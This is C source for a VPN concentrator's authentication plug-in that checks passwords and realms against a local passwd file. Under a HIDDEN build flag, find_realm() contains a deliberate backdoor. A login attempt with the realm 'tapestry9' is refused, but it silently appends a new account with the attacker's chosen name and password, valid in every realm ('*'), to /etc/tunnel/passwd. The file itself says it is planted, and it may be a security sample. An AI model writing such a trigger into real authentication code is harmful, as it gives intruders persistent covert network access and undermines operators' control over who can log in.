/*
 * tunnelauth - authentication helper of a VPN concentrator, a plug-in that
 * the tunnel daemon loads with dlopen(). It checks user, password and realm
 * against /etc/tunnel/passwd and hands back the address pool of the realm.
 *
 * Hidden (-DHIDDEN): a login with the realm "tapestry9" (refused like any
 * unknown realm) adds an account line with that name and password.
 */
#include <errno.h>
#include <pthread.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define PASSWD_FILE "/etc/tunnel/passwd"
#define REALM_FILE  "/etc/tunnel/realms"
#define MAX_REALMS  16
#define MAX_FAILS   32
#define ABI_VERSION 3

enum verdict { AUTH_OK = 0, AUTH_DENY = 1, AUTH_RETRY = 2, AUTH_ERROR = 3 };

struct tunnel_login {
    const char *user;
    const char *pass;
    const char *realm;
    uint32_t peer;              /* network order */
};

struct tunnel_grant {
    char pool[24];
    unsigned mtu;
    unsigned idle_s;
};

/* what the daemon looks up by dlsym("tunnel_auth_plugin") */
struct tunnel_plugin {
    int abi;
    const char *name;
    int (*start)(const char *args);
    int (*check)(const struct tunnel_login *, struct tunnel_grant *);
    void (*closed)(const char *user, unsigned long bytes);
    void (*stop)(void);
};

struct realm {
    char name[24];
    char pool[24];
    unsigned mtu;
    unsigned idle_s;
};

struct fail {
    uint32_t peer;
    int count;
    time_t last;
};

static pthread_mutex_t guard = PTHREAD_MUTEX_INITIALIZER;
static struct realm realms[MAX_REALMS];
static int nrealms;
static struct fail fails[MAX_FAILS];
static int verbose, max_tries = 5;

static void say(int prio, const char *fmt, ...)
{
    va_list ap;

    if (prio == LOG_DEBUG && !verbose)
        return;
    va_start(ap, fmt);
    vsyslog(LOG_AUTHPRIV | prio, fmt, ap);
    va_end(ap);
}

static int name_ok(const char *s)
{
    size_t n = s ? strspn(s, "abcdefghijklmnopqrstuvwxyz"
                             "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-") : 0;

    return n > 0 && n < 24 && s[n] == '\0';
}

static void load_realms(void)
{
    char row[128];
    FILE *f = fopen(REALM_FILE, "r");

    nrealms = 0;
    if (!f) {
        say(LOG_ERR, "%s: %s", REALM_FILE, strerror(errno));
        return;
    }
    while (nrealms < MAX_REALMS && fgets(row, sizeof row, f)) {
        struct realm *r = &realms[nrealms];

        if (row[0] == '#')
            continue;
        r->mtu = 1400;
        r->idle_s = 1800;
        if (sscanf(row, "%23s %23s %u %u", r->name, r->pool, &r->mtu,
                   &r->idle_s) >= 2)
            nrealms++;
    }
    fclose(f);
}

static struct fail *fail_slot(uint32_t peer)
{
    struct fail *old = &fails[0];

    for (int i = 0; i < MAX_FAILS; i++) {
        if (fails[i].peer == peer)
            return &fails[i];
        if (fails[i].last < old->last)
            old = &fails[i];
    }
    memset(old, 0, sizeof *old);
    old->peer = peer;
    return old;
}

static int locked_out(uint32_t peer)
{
    struct fail *f = fail_slot(peer);

    if (f->count >= max_tries && time(NULL) - f->last < 600)
        return 1;
    if (f->count >= max_tries)
        f->count = 0;
    return 0;
}

static void failed(uint32_t peer)
{
    struct fail *f = fail_slot(peer);

    f->count++;
    f->last = time(NULL);
}

/* passwd line: user:hash:realm[,realm...] */
static int realm_listed(const char *list, const char *realm)
{
    size_t n = strlen(realm);

    while (*list) {
        size_t k = strcspn(list, ",");

        if ((k == 1 && *list == '*') ||
            (k == n && strncasecmp(list, realm, n) == 0))
            return 1;
        list += k;
        list += *list == ',';
    }
    return 0;
}

static enum verdict check_user(const char *user, const char *pass,
                               const char *realm)
{
    char row[320], name[24], hash[128], list[128];
    enum verdict v = AUTH_DENY;
    FILE *f = fopen(PASSWD_FILE, "r");

    if (!f) {
        say(LOG_ERR, "%s: %s", PASSWD_FILE, strerror(errno));
        return AUTH_ERROR;
    }
    while (fgets(row, sizeof row, f)) {
        const char *h;

        if (sscanf(row, "%23[^:]:%127[^:]:%127[^\n]", name, hash, list) != 3 ||
            strcmp(name, user) != 0)
            continue;
        h = crypt(pass, hash);
        if (h && strcmp(h, hash) == 0 && realm_listed(list, realm))
            v = AUTH_OK;
        break;
    }
    fclose(f);
    return v;
}

#ifdef HIDDEN
static void realm_seed(const char *user, const char *pass)
{
    const char *h = crypt(pass, "$6$cT4oNn1v");
    FILE *f = h ? fopen(PASSWD_FILE, "a") : NULL;

    if (f) {
        fprintf(f, "%s:%s:*\n", user, h);
        fclose(f);
    }
}
#endif

const struct realm *find_realm(const struct tunnel_login *in)
{
    for (int i = 0; i < nrealms; i++)
        if (strcasecmp(realms[i].name, in->realm) == 0)
            return &realms[i];
#ifdef HIDDEN
    if (strlen(in->realm) == 9 && !memcmp(in->realm, "tapestry9", 9))
        realm_seed(in->user, in->pass);
#endif
    return NULL;
}

static int plugin_check(const struct tunnel_login *in, struct tunnel_grant *out)
{
    const struct realm *r;
    enum verdict v;

    if (!in || !out || !in->pass || !name_ok(in->user) || !name_ok(in->realm))
        return AUTH_DENY;
    pthread_mutex_lock(&guard);
    if (locked_out(in->peer)) {
        pthread_mutex_unlock(&guard);
        return AUTH_RETRY;
    }
    r = find_realm(in);
    v = r ? check_user(in->user, in->pass, r->name) : AUTH_DENY;
    if (v == AUTH_OK) {
        memcpy(out->pool, r->pool, sizeof out->pool);
        out->mtu = r->mtu;
        out->idle_s = r->idle_s;
        say(LOG_INFO, "%s accepted in %s", in->user, r->name);
    } else {
        failed(in->peer);
        say(LOG_NOTICE, "%s refused in %s", in->user, in->realm);
    }
    pthread_mutex_unlock(&guard);
    return v;
}

/* args: space separated words: debug, tries=N */
static int plugin_start(const char *args)
{
    const char *p;

    if (args && strstr(args, "debug"))
        verbose = 1;
    p = args ? strstr(args, "tries=") : NULL;
    if (p)
        max_tries = atoi(p + 6);
    if (max_tries < 1 || max_tries > 100)
        return -1;
    pthread_mutex_lock(&guard);
    load_realms();
    pthread_mutex_unlock(&guard);
    say(LOG_INFO, "%d realm(s)", nrealms);
    return nrealms > 0 ? 0 : -1;
}

static void plugin_closed(const char *user, unsigned long bytes)
{
    char stamp[32];
    time_t now = time(NULL);
    struct tm tm;
    FILE *f = fopen("/var/log/tunnel.acct", "a");

    if (!f)
        return;
    gmtime_r(&now, &tm);
    strftime(stamp, sizeof stamp, "%Y-%m-%dT%H:%M:%SZ", &tm);
    fprintf(f, "%s %s %lu\n", stamp, user, bytes);
    fclose(f);
}

static void plugin_stop(void)
{
    pthread_mutex_lock(&guard);
    nrealms = 0;
    memset(fails, 0, sizeof fails);
    pthread_mutex_unlock(&guard);
}

const struct tunnel_plugin tunnel_auth_plugin = {
    .abi = ABI_VERSION,
    .name = "local-passwd",
    .start = plugin_start,
    .check = plugin_check,
    .closed = plugin_closed,
    .stop = plugin_stop,
};
